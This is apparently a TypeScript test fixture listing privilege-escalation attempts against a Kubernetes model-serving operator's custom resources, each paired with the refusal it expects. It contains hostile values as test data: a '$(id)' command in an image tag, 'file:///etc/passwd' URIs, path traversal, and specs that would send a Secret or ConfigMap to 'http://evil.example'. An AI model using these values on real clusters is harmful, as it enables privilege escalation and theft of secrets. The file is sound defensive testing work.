/**
 * What a namespaced user might try through a ModelDeployment to get what is not theirs, and who stops it. The user may write ModelDeployments in
 * one namespace (role modelwright-editor) and nothing else.
 */

/** A spec laid over a sound one; `ATTACK` in it marks what must never be stored or reach an InferenceService. */
export interface Attack {
  readonly name: string;
  /** Default ModelDeployment. */
  readonly kind?: 'ModelProfile';
  readonly spec: Readonly<Record<string, unknown>>;
  readonly metadata?: Readonly<Record<string, unknown>>;
}

export interface RefusedAttack extends Attack {
  /** What the API server says. */
  readonly words: RegExp;
}

const sound = { runtime: { type: 'SKLearn' }, deploymentMode: 'Standard', source: { storageUri: 'gs://bucket/iris' } };
const soundProfile = { target: { modelDeployment: 'iris' }, sweep: { concurrency: [1] } };
const transformer = (more: object = {}) => ({ transformer: { image: 'ghcr.io/acme/transform:1', ...more } });
const annotation = (key: string) => ({ podMetadata: { annotations: { [key]: 'ATTACK' } } });
const label = (key: string) => ({ podMetadata: { labels: { [key]: 'ATTACK' } } });

export function attacker(attack: Attack, name: string, namespace: string): object {
  return {
    apiVersion: 'modelwright.dev/v1alpha1',
    kind: attack.kind ?? 'ModelDeployment',
    metadata: { ...attack.metadata, name, namespace },
    spec: { ...(attack.kind === 'ModelProfile' ? soundProfile : sound), ...attack.spec },
  };
}

/** Fields of a Pod and of KServe that our kinds do not have: the API server drops them, whatever the client does not check. */
export const dropped: readonly Attack[] = [
  { name: 'the network of the node', spec: { hostNetwork: 'ATTACK' } },
  { name: 'the processes of the node', spec: { hostPID: 'ATTACK' } },
  { name: 'the IPC of the node', spec: { hostIPC: 'ATTACK' } },
  { name: 'a folder of the node', spec: { volumes: [{ name: 'host', hostPath: { path: '/ATTACK' } }] } },
  { name: 'a Secret as a volume', spec: { volumes: [{ name: 'x', secret: { secretName: 'ATTACK' } }] } },
  {
    name: 'a token of another audience',
    spec: { volumes: [{ name: 'x', projected: { sources: [{ serviceAccountToken: { audience: 'ATTACK' } }] } }] },
  },
  { name: 'a container of their own', spec: { containers: [{ name: 'x', image: 'ATTACK' }] } },
  { name: 'an init container of their own', spec: { initContainers: [{ name: 'x', image: 'ATTACK' }] } },
  { name: 'a privileged pod', spec: { securityContext: { privileged: 'ATTACK' } } },
  { name: 'the node by its name, past the scheduler', spec: { nodeName: 'ATTACK' } },
  { name: 'a scheduler of their own', spec: { schedulerName: 'ATTACK' } },
  { name: 'a priority that pushes others out', spec: { priorityClassName: 'ATTACK' } },
  { name: 'another container runtime', spec: { runtimeClassName: 'ATTACK' } },
  { name: 'entries in /etc/hosts', spec: { hostAliases: [{ ip: '10.0.0.1', hostnames: ['ATTACK'] }] } },
  { name: 'a name server of their own', spec: { dnsConfig: { nameservers: ['ATTACK'] } } },
  { name: 'the token mounted', spec: { automountServiceAccountToken: 'ATTACK' } },
  { name: 'the service account by its old name', spec: { serviceAccount: 'ATTACK' } },
  { name: 'an InferenceService as it is', spec: { predictor: { containers: [{ image: 'ATTACK' }] } } },
  { name: 'a patch of the InferenceService', spec: { overrides: { spec: 'ATTACK' } } },
  { name: 'a pod template', spec: { template: { spec: { hostNetwork: 'ATTACK' } } } },
  { name: 'a pod spec', spec: { podSpec: { hostNetwork: 'ATTACK' } } },
  { name: 'an explainer', spec: { explainer: { containers: [{ image: 'ATTACK' }] } } },
  { name: 'a logger that sends requests elsewhere', spec: { logger: { url: 'http://ATTACK' } } },
  { name: 'an image of the model server', spec: { runtime: { type: 'SKLearn', image: 'ATTACK' } } },
  { name: 'arguments of the model server', spec: { runtime: { type: 'SKLearn', args: ['ATTACK'] } } },
  { name: 'an environment of the model server', spec: { runtime: { type: 'SKLearn', env: [{ name: 'X', value: 'ATTACK' }] } } },
  { name: 'a runtime by its name', spec: { runtime: { type: 'SKLearn', name: 'ATTACK' } } },
  { name: 'credentials of a source', spec: { source: { storageUri: 'gs://bucket/iris', secretRef: { name: 'ATTACK' } } } },
  { name: 'a storage key of another Secret', spec: { source: { storageUri: 'gs://bucket/iris', storage: { key: 'ATTACK' } } } },
  { name: 'a pull secret of another namespace', spec: { imagePullSecrets: [{ name: 'mine', namespace: 'ATTACK' }] } },
  { name: 'a Secret in the environment of a transformer', spec: transformer({ envFrom: [{ secretRef: { name: 'ATTACK' } }] }) },
  {
    name: 'a key of a Secret in the environment of a transformer',
    spec: transformer({ env: [{ name: 'X', value: '', valueFrom: { secretKeyRef: { name: 'ATTACK', key: 'x' } } }] }),
  },
  { name: 'a volume in a transformer', spec: transformer({ volumeMounts: [{ name: 'ATTACK', mountPath: '/x' }] }) },
  { name: 'a privileged transformer', spec: transformer({ securityContext: { capabilities: { add: ['ATTACK'] } } }) },
  { name: 'a port of the node for a transformer', spec: transformer({ ports: [{ containerPort: 1, hostPort: 22, name: 'ATTACK' }] }) },
  { name: 'a hook in a transformer', spec: transformer({ lifecycle: { postStart: { exec: { command: ['ATTACK'] } } } }) },
  { name: 'a pod of load with the network of the node', kind: 'ModelProfile', spec: { hostNetwork: 'ATTACK' } },
  { name: 'an image of load', kind: 'ModelProfile', spec: { image: 'ATTACK' } },
  { name: 'a service account of load', kind: 'ModelProfile', spec: { serviceAccountName: 'ATTACK' } },
  { name: 'a template of the Job', kind: 'ModelProfile', spec: { jobTemplate: { spec: 'ATTACK' } } },
  { name: 'a target of another namespace', kind: 'ModelProfile', spec: { target: { modelDeployment: 'iris', namespace: 'ATTACK' } } },
  {
    name: 'a token of another namespace',
    kind: 'ModelProfile',
    spec: { target: { modelDeployment: 'iris', tokenSecretRef: { name: 'x', key: 'y', namespace: 'ATTACK' } } },
  },
];

/** Refused by the CRD itself, whoever asks and whatever else is installed. */
export const refusedBySchema: readonly RefusedAttack[] = [
  {
    name: 'to steer KServe by an annotation',
    spec: annotation('serving.kserve.io/enable-prometheus-scraping'),
    words: /must not use keys of kserve\.io/,
  },
  {
    name: "to set KServe's storage by an annotation",
    spec: annotation('internal.serving.kserve.io/storage-initializer-sourceuri'),
    words: /must not use keys of/,
  },
  { name: 'to steer Knative by an annotation', spec: annotation('autoscaling.knative.dev/minScale'), words: /must not use keys of/ },
  { name: 'to use an old name of KServe', spec: annotation('serving.kubeflow.org/raw'), words: /must not use keys of/ },
  { name: 'to set what is ours', spec: annotation('modelwright.dev/adopt'), words: /must not use keys of/ },
  { name: "to take another service's traffic by a label", spec: label('app'), words: /must not use app, component/ },
  {
    name: "to take another service's traffic by KServe's label",
    spec: label('serving.kserve.io/inferenceservice'),
    words: /must not use app/,
  },
  { name: 'to be reachable from outside by a label', spec: label('networking.knative.dev/visibility'), words: /must not use app/ },
  { name: 'a registry in the tag', spec: { runtime: { type: 'SKLearn', version: 'x/../evil' } }, words: /spec\.runtime\.version/ },
  {
    name: 'a digest of another image in the tag',
    spec: { runtime: { type: 'SKLearn', version: '1@sha256:00' } },
    words: /spec\.runtime\.version/,
  },
  { name: 'an option in the tag', spec: { runtime: { type: 'SKLearn', version: '1 --privileged' } }, words: /spec\.runtime\.version/ },
  { name: 'a command in the tag', spec: { runtime: { type: 'SKLearn', version: '$(id)' } }, words: /spec\.runtime\.version/ },
  { name: 'a line break in the tag', spec: { runtime: { type: 'SKLearn', version: '1\n2' } }, words: /spec\.runtime\.version/ },
  { name: 'a service account of another namespace', spec: { serviceAccountName: 'kube-system/admin' }, words: /spec\.serviceAccountName/ },
  { name: 'a service account by a path', spec: { serviceAccountName: '../admin' }, words: /spec\.serviceAccountName/ },
  {
    name: 'a pull secret of another namespace by its name',
    spec: { imagePullSecrets: [{ name: 'other/secret' }] },
    words: /spec\.imagePullSecrets\[0\]\.name/,
  },
  {
    name: 'a file of the pod as the model',
    spec: { source: { storageUri: 'file:///etc/passwd' } },
    words: /storageUri must begin with one of/,
  },
  {
    name: 'a file by a scheme in capitals',
    spec: { source: { storageUri: 'FILE:///etc/passwd' } },
    words: /storageUri must begin with one of/,
  },
  {
    name: 'a model in the address itself',
    spec: { source: { storageUri: 'data:text/plain,x' } },
    words: /storageUri must begin with one of/,
  },
  {
    name: 'a password in the address',
    spec: { source: { storageUri: 'https://user:secret@host/x.zip' } },
    words: /must not carry a signature, token or password/,
  },
  {
    name: 'a signature in the address',
    spec: { source: { storageUri: 'https://a.blob.core.windows.net/c/x?sv=1&SIG=x' } },
    words: /must not carry a signature/,
  },
  { name: 'a second argument in the address', spec: { source: { storageUri: 'gs://bucket/x /etc' } }, words: /must not contain blanks/ },
  { name: 'a line break in the address', spec: { source: { storageUri: 'gs://bucket/x\n/etc' } }, words: /must not contain blanks/ },
  { name: 'memory as a GPU', spec: { gpu: { count: 1, resourceName: 'hugepages-2Mi' } }, words: /spec\.gpu\.resourceName/ },
  { name: 'a GPU that is counted past its limit', spec: { gpu: { count: 65 } }, words: /spec\.gpu\.count/ },
  { name: 'more copies than anyone has', spec: { scaling: { maxReplicas: 1_000_000 } }, words: /spec\.scaling\.maxReplicas/ },
  {
    name: 'an option as the name of the model',
    spec: { runtime: { type: 'Triton' }, model: { name: '--help' } },
    words: /spec\.model\.name/,
  },
  {
    name: 'a path as the name of the model',
    spec: { runtime: { type: 'Triton' }, model: { name: '../../etc' } },
    words: /spec\.model\.name/,
  },
  { name: 'a blank in the image of a transformer', spec: transformer({ image: 'x --y' }), words: /spec\.transformer\.image/ },
  { name: 'a variable that is none', spec: transformer({ env: [{ name: 'A=B', value: 'x' }] }), words: /spec\.transformer\.env/ },
  { name: 'a key with a newline', spec: { scheduling: { nodeSelector: { 'a\nb': 'x' } } }, words: /spec\.scheduling\.nodeSelector/ },
  {
    name: 'a target that is no web server',
    kind: 'ModelProfile',
    spec: { target: { url: 'file:///etc/passwd' } },
    words: /spec\.target\.url/,
  },
  {
    name: 'a password in a target',
    kind: 'ModelProfile',
    spec: { target: { url: 'http://user:secret@host' } },
    words: /spec\.target\.url/,
  },
  {
    name: 'a target of another namespace by a path',
    kind: 'ModelProfile',
    spec: { target: { modelDeployment: 'team-b/iris' } },
    words: /spec\.target\.modelDeployment/,
  },
  {
    name: 'a Secret of another namespace as a token',
    kind: 'ModelProfile',
    spec: { target: { modelDeployment: 'iris', tokenSecretRef: { name: 'team-b/x', key: 'y' } } },
    words: /spec\.target\.tokenSecretRef\.name/,
  },
  {
    name: 'a claim of another namespace',
    spec: { source: { volume: { claimName: '../payroll' } } },
    words: /spec\.source\.volume\.claimName/,
  },
  {
    name: 'a way out of the volume',
    spec: { source: { volume: { claimName: 'models', path: '../../etc' } } },
    words: /spec\.source\.volume\.path/,
  },
];

const samples = { dataset: { configMapKeyRef: { name: 'plans', key: 'x' } }, metric: 'Top1' };

/** What somebody who may create Pods could do without us; who may not is refused at admission. */
export const refusedToAuthors: readonly RefusedAttack[] = [
  { name: 'a strong service account of the namespace', spec: { serviceAccountName: 'deployer' }, words: /may not run any as "deployer"/ },
  { name: 'a service account that is not there yet', spec: { serviceAccountName: 'later' }, words: /may not run any as "later"/ },
  { name: 'a Secret to pull with', spec: { imagePullSecrets: [{ name: 'registry' }] }, words: /may not have Secrets used/ },
  {
    name: 'a Secret beside one that is allowed',
    spec: { imagePullSecrets: [{ name: 'allowed' }, { name: 'registry' }] },
    words: /may not have Secrets used/,
  },
  { name: 'a volume', spec: { source: { storageUri: 'pvc://payroll/2026' } }, words: /may not have the volume "payroll" mounted/ },
  { name: 'a whole volume', spec: { source: { storageUri: 'pvc://payroll' } }, words: /may not have the volume "payroll" mounted/ },
  {
    name: 'a volume to be packaged and read back',
    spec: { source: { volume: { claimName: 'payroll' } } },
    words: /may not have the volume "payroll" mounted/,
  },
  {
    name: 'to have a Secret sent to a server of their own',
    kind: 'ModelProfile',
    spec: { target: { url: 'http://evil.example', modelName: 'x', tokenSecretRef: { name: 'payroll', key: 'x' } } },
    words: /neither read the Secret "payroll"/,
  },
  {
    name: 'to have a ConfigMap sent by a profile that the operator makes',
    spec: { profile: { auto: true, template: { sweep: { concurrency: [1] }, payload: { configMapKeyRef: { name: 'plans', key: 'x' } } } } },
    words: /neither read the ConfigMap "plans"/,
  },
  {
    name: 'to have a ConfigMap sent to a server of their own',
    kind: 'ModelProfile',
    spec: { target: { url: 'http://evil.example', modelName: 'x' }, payload: { configMapKeyRef: { name: 'plans', key: 'x' } } },
    words: /spec\.payload\.configMapKeyRef: .*neither read the ConfigMap "plans"/,
  },
  {
    name: 'to have a ConfigMap sent as samples',
    kind: 'ModelProfile',
    spec: { target: { url: 'http://evil.example', modelName: 'x' }, accuracy: samples },
    words: /spec\.accuracy\.dataset\.configMapKeyRef: .*neither read the ConfigMap "plans"/,
  },
  {
    name: 'to have a ConfigMap sent as samples beside a payload of their own',
    kind: 'ModelProfile',
    spec: { target: { url: 'http://evil.example', modelName: 'x' }, payload: { json: '{}' }, accuracy: samples },
    words: /spec\.accuracy\.dataset\.configMapKeyRef: .*neither read the ConfigMap "plans"/,
  },
  {
    name: 'to have a ConfigMap sent as samples by a profile that the operator makes',
    spec: { profile: { auto: true, template: { sweep: { concurrency: [1] }, accuracy: samples } } },
    words: /spec\.profile\.template\.accuracy\.dataset\.configMapKeyRef: .*neither read the ConfigMap "plans"/,
  },
  { name: 'a container of their own', spec: transformer(), words: /may not bring a container of your own/ },
  { name: 'to leave the service mesh', spec: annotation('sidecar.istio.io/inject'), words: /which other programs act on/ },
  {
    name: 'to switch AppArmor off',
    spec: annotation('container.apparmor.security.beta.kubernetes.io/kserve-container'),
    words: /which other programs act on/,
  },
  { name: 'secrets of a vault', spec: annotation('vault.hashicorp.com/agent-inject-secret-x'), words: /which other programs act on/ },
  { name: 'another network', spec: annotation('k8s.v1.cni.cncf.io/networks'), words: /which other programs act on/ },
  { name: 'a role in the cloud', spec: annotation('iam.amazonaws.com/role'), words: /which other programs act on/ },
  { name: 'an identity in the cloud', spec: label('azure.workload.identity/use'), words: /which other programs act on/ },
  { name: 'never to be moved', spec: annotation('cluster-autoscaler.kubernetes.io/safe-to-evict'), words: /which other programs act on/ },
  { name: 'every node', spec: { scheduling: { tolerations: [{ operator: 'Exists' }] } }, words: /may not tolerate every taint/ },
  {
    name: 'every node with an effect',
    spec: { scheduling: { tolerations: [{ operator: 'Exists', effect: 'NoSchedule' }] } },
    words: /may not tolerate/,
  },
  {
    name: 'the nodes of the control plane',
    spec: {
      scheduling: {
        tolerations: [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists' }],
        nodeSelector: { 'node-role.kubernetes.io/control-plane': '' },
      },
    },
    words: /may not tolerate/,
  },
  {
    name: 'nodes that are being emptied',
    spec: { scheduling: { tolerations: [{ key: 'node.kubernetes.io/unschedulable', operator: 'Exists' }] } },
    words: /may not tolerate/,
  },
];

const objective = { latency: [{ percentile: 'p99', maxMilliseconds: 100 }] };

/** How somebody who may write ModelProfiles, and no ModelDeployment, tries to have one changed by the operator. */
export const refusedToMeasurers: readonly RefusedAttack[] = [
  { name: 'to apply what they measure', spec: { apply: 'Apply', objective } },
  {
    name: 'to give a model what hardware they like',
    spec: {
      apply: 'Apply',
      objective,
      mode: 'Dedicated',
      sweep: { concurrency: [1], hardware: [{ name: 'x', nodeSelector: { pool: 'theirs' }, resources: { limits: { cpu: '500' } } }] },
    },
  },
  {
    name: 'to give it another version',
    spec: { apply: 'Apply', objective, mode: 'Dedicated', sweep: { concurrency: [1], runtimes: [{ name: 'old', version: 'v0.1.0' }] } },
  },
  { name: 'to undo what others applied', spec: { rollback: 'r3d7fbe3af27' } },
  { name: 'to undo it by a profile that applies nothing', spec: { apply: 'Never', rollback: 'r3d7fbe3af27' } },
  { name: 'to apply later, while it is suspended', spec: { apply: 'Apply', objective, suspend: true } },
  { name: 'to apply to a model that is not there yet', spec: { apply: 'Apply', objective, target: { modelDeployment: 'later' } } },
].map((attack) => ({ ...attack, kind: 'ModelProfile' as const, words: /you may not update the ModelDeployment/ }));

/** What such a user is given all the same. */
export const allowedToMeasurers: readonly Attack[] = [
  { name: 'a recommendation', kind: 'ModelProfile', spec: { apply: 'Recommend' } },
  { name: 'a measurement', kind: 'ModelProfile', spec: { apply: 'Never', objective } },
];

/** What the ServingPlatform's policy does not list, tried by somebody who may create Pods: refused at admission and, alone, by the operator. */
export const refusedByPolicy: readonly (RefusedAttack & { readonly reason: string })[] = [
  {
    name: 'a service account that is not listed',
    spec: { serviceAccountName: 'deployer' },
    words: /does not allow "deployer"/,
    reason: 'ServiceAccountNotAllowed',
  },
  {
    name: 'one that begins like a listed one',
    spec: { serviceAccountName: 'model-reader2' },
    words: /does not allow "model-reader2"/,
    reason: 'ServiceAccountNotAllowed',
  },
  ...[
    'evil.example/transform:1',
    'ghcr.io/acme-evil/transform:1',
    'ghcr.io.evil.example/acme/transform:1',
    'ghcr.io:443/acme/transform:1',
    'ghcr.io/other/acme/transform:1',
    'ghcr.io/acme2@sha256:0000',
    'acme/transform:1',
    'ghcr.io/ACME/transform:1',
    'docker.io/ghcr.io/acme/transform:1',
    'library/evil:1',
    'evil:ghcr.io',
    'evil@sha256:ghcr.io/acme/x',
  ].map((image) => ({
    name: `the image ${image}`,
    spec: transformer({ image }),
    words: /does not allow images from there/,
    reason: 'ImageNotAllowed',
  })),
];

/** What the policy lists, in every spelling: let through by both. */
export const allowedByPolicy: readonly Attack[] = [
  { name: 'a listed service account', spec: { serviceAccountName: 'model-reader' } },
  ...[
    'ghcr.io/acme/transform:1',
    'ghcr.io/acme:1',
    'ghcr.io/acme/a/b@sha256:0000',
    'nginxinc/x:1',
    'docker.io/nginxinc/x',
    'index.docker.io/nginxinc/x:1',
    'localhost:5000/x:1',
  ].map((image) => ({ name: `the image ${image}`, spec: transformer({ image }) })),
];

export const policy = {
  serviceAccounts: ['model-reader'],
  imageRegistries: ['ghcr.io/acme/', 'index.docker.io/nginxinc', 'localhost:5000'],
};
